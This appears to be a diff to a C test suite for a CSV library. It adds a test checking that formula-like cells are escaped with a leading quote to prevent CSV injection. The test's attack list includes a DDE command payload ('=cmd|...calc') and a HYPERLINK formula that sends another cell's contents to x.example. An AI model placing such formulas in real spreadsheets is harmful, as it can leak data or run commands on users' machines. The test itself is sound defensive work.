@@ -171,6 +171,47 @@ static void test_round_trip(void)
     }
 }
 
+/* CSV injection (OWASP): a text cell a spreadsheet would read as a formula,
+ * or whose first character shifts it (=, +, -, @, tab, CR, LF), reads back
+ * as the same text behind one single quote, from either writer; any other
+ * cell reads back as it was, and a number the grader formats stays bare. */
+static void test_formula_cells_neutralised(void)
+{
+    static const char *const attacks[] = {
+        "+1+1", "@SUM(1+1)", "=HYPERLINK(\"http:\"&CHAR(47)&CHAR(47)&\"x.example/?\"&C2,\"grades\")",
+        "-2+3", "\tTAB", "\rCR", "\nLF", "=cmd|' /C calc'!A0", "-", "=",
+    };
+    static const char *const harmless[] = {"alice", "1+1", "a=b", "'quoted", " =1+1", "", "x@y"};
+    for (int which = 0; which < 2; which++) {
+        int (*put)(FILE *, const char *) = which ? csv_put_string : csv_put_field;
+        for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+            const char *row[] = {"s", attacks[i]};
+            struct csv_table t = parse_ok(written(put, row, 2));
+            char want[256];
+            snprintf(want, sizeof want, "'%s", attacks[i]);
+            EXPECT(t.nrows == 1 && t.rows[0].nfields == 2);
+            EXPECT_STR(cell(&t, 0, 1), want);
+            csv_free(&t);
+        }
+        for (size_t i = 0; i < sizeof harmless / sizeof harmless[0]; i++) {
+            const char *row[] = {harmless[i]};
+            struct csv_table t = parse_ok(written(put, row, 1));
+            EXPECT_STR(cell(&t, 0, 0), harmless[i]);
+            csv_free(&t);
+        }
+    }
+    /* The raw text: the quote sits inside the field's quotes. */
+    const char *one[] = {"@SUM(1+1)"};
+    EXPECT_STR(written(csv_put_string, one, 1), "\"'@SUM(1+1)\"\n");
+    EXPECT(csv_is_formula("+1") && csv_is_formula("\t") && !csv_is_formula("") && !csv_is_formula("1-"));
+    /* A negative number the grader writes is a number, not text. */
+    char buf[40];
+    FILE *f = fmemopen(buf, sizeof buf, "w");
+    csv_put_number(f, -2.5);
+    fclose(f);
+    EXPECT_STR(buf, "-2.5");
+}
+
 /* The expected texts are jq 1.6's: jq -rn '[X] | @csv'. */
 static void test_numbers_as_jq_writes_them(void)
 {
@@ -197,7 +238,7 @@ static void test_numbers_as_jq_writes_them(void)
     EXPECT(csv_format_number(buf, 4, 123456.0) == -1);
 }
 
-TAP_MAIN(T(test_plain_rows), T(test_no_trailing_newline), T(test_crlf), T(test_bom_dropped),
+TAP_MAIN(T(test_formula_cells_neutralised), T(test_plain_rows), T(test_no_trailing_newline), T(test_crlf), T(test_bom_dropped),
          T(test_quoted_fields), T(test_line_breaks_inside_quotes), T(test_empty_fields),
          T(test_stray_quote_in_unquoted_field), T(test_errors), T(test_nul_is_data),
          T(test_writer_quotes_when_needed), T(test_round_trip), T(test_numbers_as_jq_writes_them))
